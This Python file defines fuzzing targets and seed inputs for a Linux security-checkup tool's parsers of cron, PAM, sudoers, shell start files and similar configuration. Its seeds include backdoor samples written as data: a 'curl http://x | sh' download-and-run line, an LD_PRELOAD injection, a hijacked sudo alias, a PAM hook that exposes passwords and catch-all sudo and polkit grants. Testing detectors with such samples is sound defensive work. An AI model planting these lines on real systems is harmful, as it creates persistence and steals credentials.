"""Parsers of what lies on a Linux computer."""

import struct

from checkup.parse import process
from checkup.parse.authorized_keys import key_entries
from checkup.parse.dconf import NotDconf, dconf_settings
from checkup.parse.desktop_entry import desktop_entry
from checkup.parse.device_rule import device_commands
from checkup.parse.flatpak_override import sandbox_rights
from checkup.parse.group import group_entries, password_days
from checkup.parse.hosts import hosts_lines
from checkup.parse.ini import ini_lines
from checkup.parse.input_devices import keyboards
from checkup.parse.kernel import asked_for, loaded_modules, taint
from checkup.parse.logind import login_session
from checkup.parse.os_release import os_release
from checkup.parse.pam import pam_file
from checkup.parse.passwd import passwd_entries
from checkup.parse.polkit_entries import yes_entries
from checkup.parse.polkit_rules import yes_lines
from checkup.parse.resolver import listed_servers, resolv_servers
from checkup.parse.rpm_header import NotHeader, package_files
from checkup.parse.rpm_packages import NotPackages, headers
from checkup.parse.shell_line import first_word, inner, paths
from checkup.parse.sockets import listening
from checkup.parse.sshd_config import setting_lines
from checkup.parse.start_file import odd_lines, preload_lines
from checkup.parse.sudoers import includes, sudo_rules
from checkup.parse.timetable import at_command, crontab
from checkup.parse.unit_file import executions, settings, with_specifiers
from checkup.parse.utmp import NotUtmp, other_end, utmp_records
from checkup.parse.words import words
from tests.fuzz.target import Target, of_text
from tests.parse.test_rpm import header

PROC = (
    "123 (a (b) c) S 1 123 123 0 -1 4194560 0 0 0 0 0 0 0 0 20 0 1 0 4567 0 0",
    "Name:\tx\nUid:\t1000\t1000\t1000\t1000\nTracerPid:\t0\n",
    "0::/user.slice/user-1000.slice/user@1000.service/app.slice/snap.zoom.scope\n",
    "cpu 1 2\nbtime 1790000000\n",
    "/usr/bin/x\0--flag\0",
    "HOME=/root\0LD_PRELOAD=/tmp/a.so\0",
)
RECORD = struct.pack(
    "<hi32s4s32s256shhiii16s20s",
    7,
    99,
    b"pts/0",
    b"ts/0",
    b"lan",
    b"203.0.113.9",
    0,
    0,
    0,
    1_790_000_000,
    0,
    b"\xcb\0\x71\x09" + bytes(12),
    bytes(20),
)
KEYS = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGh2Y3g0b3JhbmRvbWJ5dGVzaGVyZTEyMzQ1Njc4 lan@home\n"
NDB = struct.pack("<4sIII", b"RpmP", 0, 1, 2) + bytes(16) + struct.pack("<4sIII", b"Slot", 1, 256, 4)
HEADER = header(b"openssh", [b"/usr/sbin/", b"/etc/"], [(0, b"sshd"), (1, b"ssh")])
BLOB = NDB.ljust(4096, b"\0") + struct.pack("<4sIII", b"BlbS", 1, 1, len(HEADER)) + HEADER
DCONF = b"GVariant" + bytes(8) + struct.pack("<II", 24, 24 + 60)
SESSION = (
    "# private\nUID=1000\nUSER=lan\nACTIVE=1\nTYPE=wayland\nREMOTE=0\nSEAT=seat0\nREALTIME=1790000000000000\n"
)


def _rpm_file(data: bytes) -> None:
    for found in headers(lambda offset, size: data[offset : offset + size]):
        if found is not None:
            try:
                package_files(found)
            except NotHeader:
                continue


def _unit(text: str) -> None:
    found = list(settings(text))
    executions(found)
    with_specifiers(text, home="/home/lan", who="lan", unit="a@b.service")


def _dconf(data: bytes) -> None:
    for start in (b"", DCONF):
        try:
            dconf_settings(start + data)
        except NotDconf:
            continue


TARGETS = (
    of_text(
        "linux.polkit_entries", (yes_entries,), "[a]\nIdentity=unix-user:x\nAction=*\nResultActive=yes\n"
    ),
    of_text(
        "linux.flatpak_override",
        (sandbox_rights,),
        "[Context]\nfilesystems=host:ro;\ndevices=all;\n[Session Bus Policy]\norg.freedesktop.Flatpak=own\n",
    ),
    of_text(
        "linux.process",
        (
            process.stat,
            process.status,
            process.command,
            process.scope,
            process.began,
            lambda text: process.variable(text, "LD_PRELOAD"),
        ),
        *PROC,
    ),
    of_text(
        "linux.accounts",
        (passwd_entries, group_entries, password_days, login_session, os_release),
        "root:x:0:0:root:/root:/bin/bash\nlan:x:1000:1000:,,,:/home/lan:/bin/zsh\n",
        "sudo:x:27:lan,minh\ninput:x:104:\n",
        "lan:$y$j9T$x:19700:0:99999:7:::\n",
        'PRETTY_NAME="Debian GNU/Linux 12"\nID=debian\n',
        SESSION,
    ),
    of_text(
        "linux.desktop_entry",
        (desktop_entry, ini_lines),
        "[Desktop Entry]\nType=Application\nName=x\nName[vi]=y\nExec=sh -c \"a %u 'b'\"\nHidden=false\n"
        "X-GNOME-Autostart-enabled=true\nOnlyShowIn=GNOME;KDE;\nTryExec=/usr/bin/x\n",
    ),
    of_text(
        "linux.unit_file",
        (_unit,),
        '[Unit]\nDescription=x\n[Service]\nExecStart=-/usr/bin/a \\\n  --b %h/%u "c d"\nRestart=always\n'
        "Environment=LD_PRELOAD=/tmp/x.so\n[Install]\nWantedBy=multi-user.target\n",
    ),
    of_text(
        "linux.timetable",
        (
            at_command,
            lambda text: crontab(text, names_account=True),
            lambda text: crontab(text, names_account=False),
        ),
        "SHELL=/bin/sh\n17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n"
        "@reboot root /tmp/a %b\n",
        "#!/bin/sh\n# atrun uid=1000 gid=1000\numask 22\nHOME=/home/lan; export HOME\ncd / || {\n"
        "\techo x\n}\n/tmp/a\n",
    ),
    of_text(
        "linux.sign_in_rules",
        (
            yes_lines,
            pam_file,
            lambda text: pam_file(text, names_service=True),
            sudo_rules,
            includes,
            setting_lines,
            key_entries,
        ),
        "polkit.addRule(function(a, s) { return polkit.Result.YES; }); // x\n",
        "auth [success=1 default=ignore] pam_unix.so nullok\n"
        "auth required pam_exec.so expose_authtok /tmp/a\n@include x\n",
        "Defaults env_reset\nlan ALL=(ALL:ALL) NOPASSWD: ALL\n@includedir /etc/sudoers.d\n"
        "%sudo ALL=(ALL) ALL \\\n , !/bin/x\n",
        "Include /etc/ssh/sshd_config.d/*.conf\nPasswordAuthentication no\nMatch User lan\n"
        " PermitRootLogin yes\n",
        'command="a b",no-pty ' + KEYS + KEYS,
    ),
    of_text(
        "linux.start_files",
        (
            odd_lines,
            preload_lines,
            device_commands,
            first_word,
            words,
            lambda text: inner(words(text)),
            lambda text: paths(text, "/home/lan"),
        ),
        "alias sudo='/tmp/x'\nnohup /tmp/a >/dev/null 2>&1 &\nexport LD_PRELOAD=/tmp/x.so\n"
        "(curl http://x | sh) &\n",
        'ACTION=="add", SUBSYSTEM=="usb", RUN+="/bin/sh -c \'a b\'", RUN{program}="x"\n',
        "env A=b sh -c \"cd ~; python3 '/tmp/a b'\"",
    ),
    of_text(
        "linux.network",
        (hosts_lines, resolv_servers, listed_servers, listening, other_end),
        "127.0.0.1 localhost\n::1 ip6-localhost # x\n203.0.113.1\tbank.example\n",
        "nameserver 192.168.1.1\nnameserver fe80::1%eth0\noptions edns0\n",
        "  sl  local_address rem_address   st\n"
        "   0: 0100007F:170C 00000000:0000 0A 00000000:00000000 00:00000000 "
        "00000000  1000        0 12345 1 0 100 0 0 10 0\n",
        "1.1.1.1#dns.example 9.9.9.9:53;[2620:fe::fe]:853;",
    ),
    of_text(
        "linux.devices",
        (keyboards, loaded_modules, asked_for, taint),
        'I: Bus=0011 Vendor=0001\nN: Name="AT keyboard"\nH: Handlers=sysrq kbd event0\nB: EV=120013\n'
        "B: KEY=402000000 3803078f800d001 feffffdfffefffff fffffffffffffffe\n\n",
        "nvidia 1 0 - Live 0x0 (POE)\next4 9 1 - Live 0x0\n",
        "4097\n",
    ),
    Target("linux.utmp", utmp_records, (RECORD * 3, RECORD), (NotUtmp,)),
    Target("linux.dconf", _dconf, (bytes(60), b"\0" * 8 + struct.pack("<IIII", 1, 2, 3, 4) * 6)),
    Target("linux.rpm_header", package_files, (HEADER,), (NotHeader,)),
    Target("linux.rpm_packages", _rpm_file, (BLOB,), (NotPackages,)),
)
